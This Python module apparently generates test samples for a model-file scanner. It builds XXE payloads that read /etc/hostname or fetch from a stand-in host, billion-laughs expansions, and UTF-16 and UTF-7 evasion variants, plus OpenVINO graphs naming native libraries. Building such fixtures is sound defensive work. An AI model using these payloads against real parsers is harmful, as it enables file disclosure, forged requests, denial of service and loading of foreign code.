"""XML documents whose document type attacks the parser, and models in XML that name native code. Assembled by hand.

The files and addresses they name do not exist, or are what every text about the attack names; nothing here opens them.
"""

from collections.abc import Iterator

_DECLARED = '<?xml version="1.0" encoding="UTF-8"?>\n'
_PMML = '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header description="{}"/><DataDictionary/></PMML>\n'
_FILE = '<!ENTITY sample SYSTEM "file:///etc/hostname">'
_HTTP = '<!ENTITY sample SYSTEM "http://sample.invalid/entity">'
_PARAMETER = '<!ENTITY % sample SYSTEM "http://sample.invalid/sample.dtd"> %sample;'


def laughs(levels: int = 9, width: int = 10) -> str:
    """Declarations of entities each of which is `width` times the one before."""
    lines = ['<!ENTITY laugh0 "ha">']
    lines += [f'<!ENTITY laugh{level} "{f"&laugh{level - 1};" * width}">' for level in range(1, levels + 1)]
    return "\n".join(lines)


def pmml(subset: str, text: str = "&sample;") -> str:
    """A model in PMML whose document type has this internal subset."""
    return f"{_DECLARED}<!DOCTYPE PMML [\n{subset}\n]>\n{_PMML.format(text)}"


def document(subset: str, text: str = "&sample;") -> str:
    """A document of no model, with this internal subset."""
    return f"{_DECLARED}<!DOCTYPE settings [\n{subset}\n]>\n<settings>{text}</settings>\n"


def openvino(layer: str, *, before: str = "", around: str = "") -> str:
    """A graph of OpenVINO with an input and one more layer."""
    return (
        f'<?xml version="1.0"?>\n{before}<net name="sample" version="11">{around}<layers>'
        '<layer id="0" name="input" type="Parameter" version="opset1"><data shape="1,3" element_type="f32"/></layer>'
        f"{layer}</layers><edges/></net>\n"
    )


def samples() -> Iterator[tuple[str, bytes]]:
    """Name and bytes of every sample."""
    relu = '<layer id="1" name="relu" type="ReLU" version="opset1"/>'
    for technique, name, text in (
        ("pmml reads a file", "model.pmml", pmml(_FILE)),
        ("pmml asks an address", "model.pmml", pmml(_HTTP)),
        ("pmml parameter entity", "model.pmml", pmml(_PARAMETER, "")),
        ("pmml billion laughs", "model.pmml", pmml(laughs(), "&laugh9;")),
        ("pmml takes its type from an address", "model.pmml", pmml("").replace("[\n\n]", 'SYSTEM "http://sample.invalid/x.dtd"')),
        ("pmml named as any document", "model.xml", pmml(_FILE)),
        ("document reads a file", "settings.xml", document(_FILE)),
        ("document asks an address", "settings.xml", document(_HTTP)),
        ("document parameter entity", "settings.xml", document(_PARAMETER, "")),
        ("document billion laughs", "settings.xml", document(laughs(), "&laugh9;")),
        ("document behind a comment in its type", "settings.xml", document(f"<!-- ]> -->{_FILE}")),
        ("openvino reads a file", "model.xml", openvino(relu, before=f"<!DOCTYPE net [{_FILE}]>\n")),
        ("openvino billion laughs", "model.xml", openvino(relu, before=f"<!DOCTYPE net [{laughs()}]>\n")),
    ):  # fmt: skip
        yield f"xml-external-entity/{technique}/{name}", text.encode()
    for technique, text, name, encoding in (
        ("pmml in utf-16", pmml(_FILE), "model.pmml", "utf-16-le"),
        ("document in utf-16", document(_FILE), "settings.xml", "utf-16-le"),
        ("document in utf-16 backwards", document(_HTTP), "settings.xml", "utf-16-be"),
    ):
        marked = "\ufeff" + text.replace("UTF-8", "UTF-16")
        yield f"xml-external-entity/{technique}/{name}", marked.encode(encoding)
    hidden = pmml(_FILE).replace("UTF-8", "UTF-7").partition("?>")
    yield (
        "xml-external-entity/pmml in utf-7/model.pmml",
        b"".join((hidden[0].encode(), b"?>", hidden[2].encode("utf-7"))),
    )
    for technique, attribute in (
        ("openvino layer names a library", 'library="./libsample.so"'),
        ("openvino library with a version", 'plugin="libsample.so.2"'),
        ("openvino library on a share", 'module="\\\\sample.invalid\\share\\sample.DLL"'),
    ):
        layer = f'<layer id="1" name="custom" type="ReLU" version="opset1"><data {attribute}/></layer>'
        yield f"native-library/{technique}/model.xml", openvino(layer).encode()
    for technique, element in (
        ("openvino extension before the layers", '<extension path="C:\\sample\\sample.dll"/>'),
        ("openvino library of macos", '<custom file="libsample.dylib"/>'),
    ):
        yield f"native-library/{technique}/model.xml", openvino(relu, around=element).encode()
